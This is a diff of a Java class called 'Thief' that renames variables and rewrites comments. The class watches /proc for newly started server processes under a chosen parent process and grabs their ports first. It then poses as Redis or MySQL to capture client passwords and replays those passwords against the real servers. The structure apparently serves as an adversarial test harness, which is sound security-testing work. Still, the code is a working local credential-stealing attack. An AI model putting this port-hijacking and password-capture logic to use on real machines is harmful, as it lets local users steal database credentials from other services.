@@ -23,18 +23,18 @@ import javax.net.ssl.KeyManagerFactory;
 import javax.net.ssl.SSLContext;
 
 /**
- * Reads the list of processes for servers that are starting, takes their ports, answers in their place, and tries the passwords that it
- * gets on the servers that listen. One port in four is left to its server, so that logins on
- * true servers can be tried as well. Writes what it has got to its output for each byte of its input.
+ * Searches the list of processes for starting servers, takes their ports, answers in their place, and tries the
+ * passwords that it obtains on servers that listen. It leaves one port in four to its server, so that logins on real
+ * servers are tried as well. For each byte of its input, it prints what it has obtained.
  *
- * <p>A Redis has its port in a file that only its user may read. The thief, which is of that user, reads it there: so it is stronger than
- * one of another user would be.
+ * <p>A Redis has its port in a file that only its user can read. The thief runs as that user and reads the file, so it
+ * is stronger than a thief of another user.
  */
 public final class Thief {
 
     private static final Pattern PORT = Pattern.compile("--port=(\\d+)");
     private static final Pattern REDIS_PORT = Pattern.compile("(?m)^port (\\d+)$");
-    private static final int PATIENCE_MILLIS = 5_000;
+    private static final int TIMEOUT_MILLIS = 5_000;
 
     private final Loot loot = new Loot();
     private final Set<Integer> seen = ConcurrentHashMap.newKeySet();
@@ -43,15 +43,18 @@ public final class Thief {
     private final AtomicInteger turn = new AtomicInteger();
     private final SSLContext tls;
 
-    /** Of processes that are read: those that were started by this one, for no other user of this machine is to be disturbed. */
-    private final long prey;
+    /** The parent of the processes that are attacked, so that no other user of this machine is disturbed. */
+    private final long parent;
 
-    private Thief(SSLContext tls, long prey) {
+    private Thief(SSLContext tls, long parent) {
         this.tls = tls;
-        this.prey = prey;
+        this.parent = parent;
     }
 
-    /** @param arguments the process whose servers are attacked, and a PKCS #12 file with a key, whose password is "changeit" */
+    /**
+     * @param arguments id of the process whose servers are attacked, and a PKCS #12 file with a key and the password
+     *     "changeit"
+     */
     public static void main(String[] arguments) throws Exception {
         char[] word = "changeit".toCharArray();
         KeyStore keys = KeyStore.getInstance(Path.of(arguments[1]).toFile(), word);
@@ -60,29 +63,29 @@ public final class Thief {
         SSLContext tls = SSLContext.getInstance("TLS");
         tls.init(managers.getKeyManagers(), null, null);
         Thief thief = new Thief(tls, Long.parseLong(arguments[0]));
-        Thread eye = new Thread(thief::look, "eye");
-        eye.setDaemon(true);
-        eye.start();
+        Thread search = new Thread(thief::search, "search");
+        search.setDaemon(true);
+        search.start();
         System.out.println("ready");
         while (System.in.read() >= 0) {
             System.out.println(thief.loot.line());
         }
     }
 
-    private void look() {
+    private void search() {
         while (true) {
             try (DirectoryStream<Path> processes = Files.newDirectoryStream(Path.of("/proc"), "[0-9]*")) {
                 for (Path process : processes) {
-                    look(process);
+                    inspect(process);
                 }
                 Thread.sleep(1);
             } catch (IOException | InterruptedException e) {
-                // such as a process that has ended meanwhile
+                // such as a process that has ended
             }
         }
     }
 
-    private void look(Path process) throws IOException, InterruptedException {
+    private void inspect(Path process) throws IOException, InterruptedException {
         long pid = Long.parseLong(process.getFileName().toString());
         if (others.contains(pid)) {
             return;
@@ -91,7 +94,7 @@ public final class Thief {
         try {
             command = Files.readString(process.resolve("cmdline"), StandardCharsets.ISO_8859_1)
                     .replace('\0', ' ');
-            if (!command.isEmpty() && !isPrey(process)) {
+            if (!command.isEmpty() && !isTarget(process)) {
                 others.add(pid);
                 return;
             }
@@ -110,9 +113,9 @@ public final class Thief {
         }
     }
 
-    private boolean isPrey(Path process) throws IOException {
+    private boolean isTarget(Path process) throws IOException {
         String status = Files.readString(process.resolve("status"));
-        return status.contains("\nPPid:\t" + prey + "\n");
+        return status.contains("\nPPid:\t" + parent + "\n");
     }
 
     private void take(int port, boolean isRedis) {
@@ -121,7 +124,7 @@ public final class Thief {
         }
         loot.portsSeen.increment();
         int number = turn.getAndIncrement();
-        // those that are left alone get the passwords that are known to be tried on them
+        // known passwords are tried on the servers that keep their ports
         if (number % 4 == 3) {
             start("try-" + port, () -> tryLogins(port));
             return;
@@ -143,21 +146,21 @@ public final class Thief {
 
     private void listen(ServerSocket socket, boolean isRedis, int number) {
         try (socket) {
-            socket.setSoTimeout(2 * PATIENCE_MILLIS);
+            socket.setSoTimeout(2 * TIMEOUT_MILLIS);
             for (int connection = number; ; connection++) {
                 try (Socket client = socket.accept()) {
-                    client.setSoTimeout(PATIENCE_MILLIS);
+                    client.setSoTimeout(TIMEOUT_MILLIS);
                     loot.connections.increment();
                     if (isRedis) {
                         redis(client);
                     } else {
-                        FalseMySql.Way[] ways = FalseMySql.Way.values();
-                        new FalseMySql(loot, ways[connection % ways.length], tls, client).serve();
+                        FalseMySql.Method[] methods = FalseMySql.Method.values();
+                        new FalseMySql(loot, methods[connection % methods.length], tls, client).serve();
                     }
                 } catch (java.net.SocketTimeoutException nobody) {
                     return;
                 } catch (IOException | java.security.GeneralSecurityException refused) {
-                    // the client has gone
+                    // the client has disconnected
                 }
             }
         } catch (IOException e) {
@@ -165,7 +168,7 @@ public final class Thief {
         }
     }
 
-    /** Takes the first words of a client that has a password. */
+    /** Records the password in a client's first command. */
     private void redis(Socket client) throws IOException {
         byte[] buffer = new byte[4096];
         int length = client.getInputStream().read(buffer);
@@ -186,7 +189,7 @@ public final class Thief {
         client.getOutputStream().write("-ERR try again\r\n".getBytes(StandardCharsets.US_ASCII));
     }
 
-    /** Each password that is known, for as long as the server may live. */
+    /** Tries each known password, as long as the server may live. */
     private void tryLogins(int port) {
         long deadline = System.nanoTime() + 20_000_000_000L;
         while (System.nanoTime() < deadline) {
